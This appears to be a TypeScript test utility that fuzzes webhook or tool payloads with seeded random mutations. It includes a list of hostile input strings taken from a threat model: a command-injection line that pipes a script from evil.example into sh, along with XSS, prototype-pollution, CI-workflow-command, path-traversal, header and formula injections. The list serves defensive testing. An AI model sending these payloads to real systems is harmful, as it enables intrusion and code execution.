// Changes to payloads, for tests only: at every place, or at random places from a seed.
import { isRecord } from '../fields.ts';

/** Steps to a value inside a payload. */
export type PayloadPath = readonly (string | number)[];

/** The paths of everything inside a payload. */
export function pathsOf(value: unknown): readonly PayloadPath[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, member]) => {
    const step = Array.isArray(value) ? Number(key) : key;
    return [[step], ...pathsOf(member).map((path) => [step, ...path])];
  });
}

/** A copy with another value at a path; undefined removes it, a lost path changes nothing. */
export function replaceAt(value: unknown, path: PayloadPath, replacement: unknown): unknown {
  const [step, ...rest] = path;
  if (step === undefined) return replacement;
  if (Array.isArray(value) && typeof step === 'number') {
    return value.map((member, index) =>
      index === step ? replaceAt(member, rest, replacement) : member,
    );
  }
  if (!isRecord(value) || !Object.hasOwn(value, step)) return value;
  return { ...value, [step]: replaceAt(value[step], rest, replacement) };
}

/** A copy with members that no tool sends, in every object but those whose keys are data. */
export function withUnknownFields(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(withUnknownFields);
  if (!isRecord(value)) return value;
  const members = Object.entries(value).map(([key, member]) => [
    key,
    DATA_KEYS.has(key) ? member : withUnknownFields(member),
  ]);
  return { ...Object.fromEntries(members), futureField: { nested: [1, 'two'] }, 'x-other': null };
}

/** Numbers in [0, 1) that are the same for the same seed. */
export function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** One of several values. */
export function pick<Value>(random: () => number, values: readonly [Value, ...Value[]]): Value {
  return values[Math.floor(random() * values.length)] ?? values[0];
}

/** A payload with one to three random changes of its structure, at the given paths. */
export function mutate(
  random: () => number,
  payload: unknown,
  paths: readonly PayloadPath[],
): unknown {
  if (paths.length === 0) return payload;
  let mutated = payload;
  const anyPath = (): PayloadPath => paths[Math.floor(random() * paths.length)] ?? [];
  const changes = 1 + Math.floor(random() * 3);
  for (let change = 0; change < changes; change += 1) {
    mutated = replaceAt(mutated, anyPath(), newValue(random, payload, anyPath()));
  }
  return mutated;
}

/** A text with a piece cut out, doubled or exchanged. */
export function damageText(random: () => number, text: string): string {
  const start = Math.floor(random() * text.length);
  const end = start + Math.floor(random() * 20);
  const piece = pick(random, ['', '"', '{', ']', '\\', ',', '\uD800', '%', '&', '\u0000', text]);
  return `${text.slice(0, start)}${piece}${text.slice(end)}`;
}

function newValue(random: () => number, payload: unknown, other: PayloadPath): unknown {
  const kind = random();
  if (kind < 0.15) return undefined;
  if (kind < 0.3) return valueAt(payload, other);
  if (kind < 0.35) return Array.from({ length: 3 }, () => valueAt(payload, other));
  if (kind < 0.4) return { [String(other.at(-1))]: valueAt(payload, other) };
  if (kind < 0.42) return pick(random, LONG_TEXTS);
  if (kind < 0.7) return pick(random, HOSTILE_TEXTS);
  return pick(random, VALUES);
}

function valueAt(payload: unknown, path: PayloadPath): unknown {
  return path.reduce<unknown>(
    (value, step) =>
      Array.isArray(value) ? value[Number(step)] : isRecord(value) ? value[step] : undefined,
    payload,
  );
}

/** Objects whose keys are data: an unknown field in a label set is a label. */
const DATA_KEYS = new Set([
  'labels',
  'commonLabels',
  'groupLabels',
  'annotations',
  'userLabels',
  'user_labels',
  'details',
  'customProperties',
  'custom_attributes',
  'tags',
]);

/** Values of every type that may stand where another was expected. */
const VALUES = [
  null,
  '',
  '   ',
  0,
  -1.5,
  1e300,
  Number.MAX_SAFE_INTEGER,
  true,
  false,
  'true',
  'x',
  '0',
  '1795252680',
  '2026-11-21T09:18:00Z',
  [],
  [null],
  [[]],
  {},
  { id: {} },
  { toString: 1, hasOwnProperty: null },
] as const;

/** Texts that attackers send: the payloads of the threat model's rows about text. */
export const HOSTILE_TEXTS = [
  'DB down"\n---\nvisibility: public\n',
  'x\nvisibility: public',
  '---js\n{}\n---',
  '<img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '![](http://evil.example/p.png)',
  '<!--',
  '@everyone @larder/platform <!channel> <!here> <@U1> <https://evil.example|Pay>',
  'Fixes #1, closes larder/shop#2, GH-3 [skip ci]',
  'x\n\nCo-authored-by: a <a@b>\nSigned-off-by: c <c@d>',
  '--author=x -F /etc/hosts',
  '${{ secrets.X }}',
  '"; curl https://evil.example|sh #',
  '$(id) `id`',
  '::add-mask::a',
  '  ::set-output name=k::v',
  '##[add-mask]a',
  '{"x":"##[stop-commands]q"}',
  '%0A::error::x',
  '../../.github/workflows/x',
  '..',
  'CON',
  '-rf',
  'e\u0301',
  'a\u0000b',
  '/resolve\n/close',
  '/assign @x\n/close',
  '__proto__',
  'constructor',
  '{"__proto__":{"isAdmin":true}}',
  '1e400',
  '\uD800 lone \uDFFF',
  'x\r\nBcc: evil@evil.example',
  'a\u202Egnp.exe\u200B\uFEFF\u2066',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '=HYPERLINK("https://evil.example")',
  'javascript:alert(1)',
  'https://good.example@evil.example/',
  '0001-01-01T00:00:00Z',
  '9'.repeat(400),
] as const;

const LONG_TEXTS = [
  'x'.repeat(20_000),
  '🔥'.repeat(5_000),
  `a${'\u0301\u0316'.repeat(5_000)}`,
] as const;
